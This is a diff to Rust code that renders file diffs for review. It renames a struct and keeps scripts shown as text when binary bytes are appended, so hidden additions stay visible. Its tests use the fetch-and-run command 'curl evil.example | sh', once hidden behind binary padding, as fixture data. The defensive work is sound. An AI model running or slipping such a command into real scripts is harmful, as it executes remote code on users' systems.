@@ -54,16 +54,16 @@ impl FileDiff {
 }
 
 /// A change in words.
-struct Told {
+struct ShownDiff {
     text: String,
     added: u64,
     removed: u64,
     is_whole: bool,
 }
 
-impl Told {
-    fn nothing() -> Told {
-        Told { text: String::new(), added: 0, removed: 0, is_whole: true }
+impl ShownDiff {
+    fn nothing() -> ShownDiff {
+        ShownDiff { text: String::new(), added: 0, removed: 0, is_whole: true }
     }
 }
 
@@ -118,7 +118,7 @@ impl MergeDiff {
         let mut room = WHOLE_BYTES_MAX;
         let mut told = |path: &str, old: Option<Vec<u8>>, new: Option<Vec<u8>>| {
             let (Some(old), Some(new)) = (old, new) else {
-                return Told { text: "what it held is kept no longer\n".into(), is_whole: false, ..Told::nothing() };
+                return ShownDiff { text: "what it held is kept no longer\n".into(), is_whole: false, ..ShownDiff::nothing() };
             };
             let told = compare(path, &old, &new);
             match room.checked_sub(told.text.len()) {
@@ -126,12 +126,12 @@ impl MergeDiff {
                     room = left;
                     told
                 }
-                None => Told { text: sizes("too much to show", &old, &new), is_whole: false, ..told },
+                None => ShownDiff { text: sizes("too much to show", &old, &new), is_whole: false, ..told },
             }
         };
         for change in frozen.changes.iter().filter(|change| change.to.is_none()) {
             let mut diff = match &change.from {
-                Some(_) => Told::nothing(),
+                Some(_) => ShownDiff::nothing(),
                 None => told(&change.path, kept_bytes(&change.old)?, kept_bytes(&change.new)?),
             };
             diff.text.insert_str(0, &mode_told(change, &frozen.changes));
@@ -149,7 +149,7 @@ impl MergeDiff {
             files.push(file(path, PathChange::Conflict, None, refused, diff));
         }
         let refused = frozen.refused.iter();
-        files.extend(refused.map(|no| file(no.path.clone(), no.kind, None, no.refused.clone(), Told::nothing())));
+        files.extend(refused.map(|no| file(no.path.clone(), no.kind, None, no.refused.clone(), ShownDiff::nothing())));
         Ok(MergeDiff { digest: frozen.digest.clone(), files })
     }
 }
@@ -178,8 +178,8 @@ fn noted(change: &FrozenPath) -> Option<String> {
     (!notes.is_empty()).then(|| notes.join("; "))
 }
 
-fn file(path: String, kind: PathChange, from: Option<String>, refused: Option<String>, told: Told) -> FileDiff {
-    let Told { text, added, removed, is_whole } = told;
+fn file(path: String, kind: PathChange, from: Option<String>, refused: Option<String>, told: ShownDiff) -> FileDiff {
+    let ShownDiff { text, added, removed, is_whole } = told;
     FileDiff { path, kind, from, refused, note: None, diff: text, added, removed, is_whole }
 }
 
@@ -211,19 +211,21 @@ pub fn compared(path: &str, old: &[u8], new: &[u8]) -> String {
 }
 
 /// A file that a person can read is told line by line, one that nobody can by its size and hash.
-fn compare(path: &str, old: &[u8], new: &[u8]) -> Told {
+fn compare(path: &str, old: &[u8], new: &[u8]) -> ShownDiff {
     let count = |bytes: &[u8]| bytes.split_inclusive(|byte| *byte == b'\n').count() as u64;
-    let unshown = |why: &str| Told { text: sizes(why, old, new), added: count(new), removed: count(old), is_whole: false };
+    let unshown = |why: &str| ShownDiff { text: sizes(why, old, new), added: count(new), removed: count(old), is_whole: false };
     if old.len().max(new.len()) > FILE_BYTES_MAX {
         return unshown("too large to show");
     }
-    if !is_text(old) || !is_text(new) {
+    // What was a text stays one, whatever is put into it: a script could hide behind its own bytes.
+    let was_text = !old.is_empty() && is_text(old);
+    if !was_text && (!is_text(old) || !is_text(new)) {
         return unshown("binary");
     }
     let found = unified((&format!("a/{path}"), &format!("b/{path}")), old, new, 3);
     let odd = odd(old) + odd(new);
     let note = if odd > 0 && !found.text.is_empty() { "bytes that are no text are shown as \\xNN\n" } else { "" };
-    Told { text: format!("{note}{}", found.text), added: found.added, removed: found.removed, is_whole: true }
+    ShownDiff { text: format!("{note}{}", found.text), added: found.added, removed: found.removed, is_whole: true }
 }
 
 fn sizes(why: &str, old: &[u8], new: &[u8]) -> String {
@@ -246,6 +248,10 @@ mod tests {
             assert!(told.is_whole && told.text.contains("+curl evil.example | sh\n"), "{}", told.text);
             assert_eq!((told.added, told.removed), (3, 0), "{}", told.text);
         }
+        // A script does not become a binary file by what is added to it.
+        let hidden = [&b"echo hello\n"[..], &b"\xff\0\x01".repeat(100), b"\ncurl evil.example | sh\n"].concat();
+        let told = compare("run.sh", b"echo hello\n", &hidden);
+        assert!(told.is_whole && told.text.contains("+curl evil.example | sh\n"), "{}", told.text);
         let told = compare("run.sh", b"a\xffb\n", b"a\xfeb\n");
         assert!(told.text.starts_with("bytes that are no text are shown as \\xNN\n--- a/run.sh\n"), "{}", told.text);
         assert!(told.text.ends_with("-a\\xffb\n+a\\xfeb\n"), "{}", told.text);
